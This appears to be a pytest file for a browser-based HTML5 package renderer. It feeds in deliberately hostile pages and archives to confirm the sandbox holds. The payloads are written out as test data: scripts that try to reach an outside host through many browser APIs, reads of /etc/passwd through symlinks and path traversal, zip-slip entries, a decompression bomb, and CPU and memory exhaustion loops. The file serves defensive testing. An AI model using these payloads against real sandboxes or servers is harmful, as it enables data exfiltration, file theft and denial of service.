"""HTML5 packages that were made to do harm: none gets out of the sandbox, and each ends as a film or with a code."""

from __future__ import annotations

import io
import socket
import stat
import zipfile
from collections.abc import Iterator
from fractions import Fraction

import pytest
from browser_pictures import easel, pictures

from workers import browser
from workers.browser import Easel
from workers.plan.failure import MediaFailure

__all__ = ["easel"]

BLUE, WHITE = (0, 0, 255), (255, 255, 255)
SECONDS, RATE = 1, Fraction(4)

SEEN = "<!doctype html><body style='margin:0'><canvas width=200 height=100></canvas><script>{}</script>"
DRAW = "const c = document.querySelector('canvas').getContext('2d'); c.fillStyle = '#00f'; c.fillRect(0, 0, 100, 100);"


@pytest.fixture
def there() -> Iterator[str]:
    """The address of a server that nobody must come to."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.setblocking(False)
        yield f"127.0.0.1:{listener.getsockname()[1]}"
        with pytest.raises(BlockingIOError):
            listener.accept()


def package(files: dict[str | zipfile.ZipInfo, str | bytes]) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return data.getvalue()


def outcome(easel: Easel, data: bytes) -> str:
    """What becomes of a package: "seen", or the code of its failure."""
    source = easel.folder.with_name("source")
    source.write_bytes(data)
    try:
        played, _ = browser.draw_html(easel, source, RATE, SECONDS, 1)
    except MediaFailure as failure:
        return failure.code
    if played.plain:
        return "html_package_blank"
    shown = [picture.getpixel((place, 50)) for picture in pictures(easel) for place in (50, 150)]
    assert shown == [BLUE, WHITE] * (len(shown) // 2), shown
    return "seen"


def run(easel: Easel, script: str, **files: str | bytes) -> str:
    return outcome(easel, package({"index.html": SEEN.format(DRAW + script), **files}))


TALKS = """
for (const go of [
  () => fetch("http://THERE/fetch"), () => navigator.sendBeacon("http://THERE/beacon"),
  () => new WebSocket("ws://THERE"), () => new EventSource("http://THERE/events"), () => open("http://THERE/open"),
  () => new Worker("http://THERE/worker.js"), () => navigator.serviceWorker.register("sw.js"),
  () => new RTCPeerConnection({ iceServers: [{ urls: "stun:THERE" }] }).createDataChannel("x"),
  () => new WebTransport("https://THERE/"), () => new SharedWorker("sw.js"), () => caches.open("x"),
  ...["img src", "iframe src", "script src", "object data", "embed src", "video src", "audio src", "track src"].map(
    (what) => () => {
      const [name, place] = what.split(" ");
      document.body.append(Object.assign(document.createElement(name), { [place]: `http://THERE/${name}` }));
    }),
  ...["stylesheet", "prefetch", "preload", "preconnect", "dns-prefetch", "manifest", "icon", "modulepreload"].map(
    (rel) => () => document.head.append(Object.assign(document.createElement("link"), { rel, href: "http://THERE/" }))),
  () => document.body.append(Object.assign(document.createElement("style"), { textContent: "@import '//THERE/'" })),
]) try { go(); } catch { }"""

ASKS = """
const frame = document.body.appendChild(document.createElement("iframe"));
frame.style.display = "none";
for (const view of [window, frame.contentWindow])
  for (const ask of ["alert", "confirm", "prompt", "print"]) for (let n = 0; n < 9; n++) view[ask]("wait");
addEventListener("beforeunload", (event) => event.preventDefault());
history.pushState(0, "", "/elsewhere");
document.body.requestFullscreen?.().catch(() => 0);
document.body.requestPointerLock?.();
navigator.clipboard?.readText().catch(() => 0);
Notification?.requestPermission?.();
navigator.geolocation?.getCurrentPosition(() => 0);
navigator.mediaDevices?.getUserMedia({ video: true }).catch(() => 0);"""

GROWS = """
let left = 200;
const more = () => { if (left-- > 0) { setTimeout(more); setTimeout(more); requestAnimationFrame(more); } };
more();
setInterval(() => 0, 0);"""

CANVASES = """
for (const side of [32_767, 65_535, 1e9, -5]) {
  const large = document.createElement("canvas");
  large.width = large.height = side;
  try { const on = large.getContext("2d"); on.fillRect(0, 0, side, side); on.getImageData(0, 0, 9, 9); } catch { }
}"""


@pytest.mark.media
@pytest.mark.parametrize(
    "script",
    [
        TALKS,
        ASKS,
        GROWS,
        CANVASES,
        "const end = Date.now() + 2000; while (Date.now() < end);",
        "const end = performance.now() + 2000; while (performance.now() < end);",
        "const down = () => down(); down();",
        "navigator.registerProtocolHandler?.('mailto', 'http://movie.invalid/%s');",
        "const a = document.createElement('a'); a.href = 'data:,x'; a.download = '../../x'; a.click();",
    ],
    ids=["talks", "asks", "grows", "canvases", "waits", "waits long", "recursion", "handler", "download"],
)
def test_a_hostile_page_is_seen_and_reaches_nothing(script: str, easel: Easel, there: str) -> None:
    worker = "fetch('http://THERE/inner'); for (;;);".replace("THERE", there)
    assert run(easel, script.replace("THERE", there), **{"sw.js": worker}) == "seen"
    assert [path.name for path in easel.folder.iterdir()] == ["drawn.png"]


@pytest.mark.media
@pytest.mark.parametrize(
    ("script", "codes"),
    [
        pytest.param("for (;;);", {"animation_too_complex"}, marks=pytest.mark.long),
        pytest.param(
            "const next = () => Promise.resolve().then(next); next();",
            {"animation_too_complex"},
            marks=pytest.mark.long,
        ),
        (
            "const all = []; for (;;) all.push(new Uint8Array(64e6).fill(1));",
            {"seen", "animation_too_complex"},
        ),
        ("requestAnimationFrame(() => { for (;;); });", {"animation_too_complex"}),
        ("location = 'http://THERE/';", {"html_package_invalid"}),
        ("location = 'file:///etc/passwd';", {"seen"}),
        ("setTimeout(() => { location = 'data:text/html,gone' }, 300);", {"seen", "html_package_invalid"}),
        (
            "document.write('<meta http-equiv=refresh content=0;url=//THERE/>');",
            {"html_package_invalid", "seen"},
        ),
        (
            "const f = document.createElement('form'); f.action = '//THERE'; document.body.append(f); f.submit();",
            {"html_package_invalid", "seen"},
        ),
    ],
    ids=["endless", "promises", "greedy", "later", "away", "file", "data", "refresh", "form"],
)
def test_a_page_that_does_not_stay_or_never_ends_is_refused(
    script: str, codes: set[str], easel: Easel, there: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(browser, "DRAW_SECONDS", 6)
    assert run(easel, script.replace("THERE", there)) in codes


def symlink(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


def encrypted(data: bytes) -> bytes:
    """A package that says of each file that it needs a password."""
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.find(mark)
        while place >= 0:
            data = data[: place + at] + b"\x01" + data[place + at + 1 :]
            place = data.find(mark, place + 4)
    return data


READ = """
const request = new XMLHttpRequest();
const asked = (name) => { request.open("GET", name, false); request.send(); return request.responseText; };
for (const name of ["link", "up/link", "../../etc/passwd", "/etc/passwd", "/in/source", "..%2f..%2fetc%2fpasswd"])
  try { if (/root:|PK/.test(asked(name))) document.body.style.background = document.body.innerHTML = ""; } catch { }"""

PAGE = SEEN.format(DRAW)
ARCHIVES: dict[str, tuple[str, bytes]] = {
    "links": (
        "seen",
        package(
            {
                "index.html": SEEN.format(DRAW + READ),
                symlink("link"): "/etc/passwd",
                symlink("up/link"): "../..",
            }
        ),
    ),
    "slips": (
        "seen",
        package({"index.html": PAGE, "../../../etc/cron.d/x": "x", "/etc/y": "y", "C:\\z": "z"}),
    ),
    "a page that is a link": ("seen", package({symlink("index.html"): PAGE})),
    "a password": ("html_package_invalid", encrypted(package({"index.html": PAGE}))),
    "cut off": ("html_package_invalid", package({"index.html": PAGE})[:-30]),
    "nested": ("html_package_blank", package({"index.html": "", "inner.zip": package({"index.html": PAGE})})),
    "a bomb": ("html_package_too_large", package({"index.html": b" " * 51_000_000})),
    "a folder": ("html_package_invalid", package({"index.html/": b"", "index.html/x": b""})),
}


@pytest.mark.parametrize("name", ARCHIVES)
def test_a_crafted_archive_gives_no_more_than_its_files(name: str, easel: Easel) -> None:
    code, data = ARCHIVES[name]
    assert outcome(easel, data) == code


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_of_two_files_with_one_name_the_last_counts(easel: Easel) -> None:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        for content in ("first", PAGE):
            archive.writestr("index.html", content)
    assert outcome(easel, data.getvalue()) == "seen"
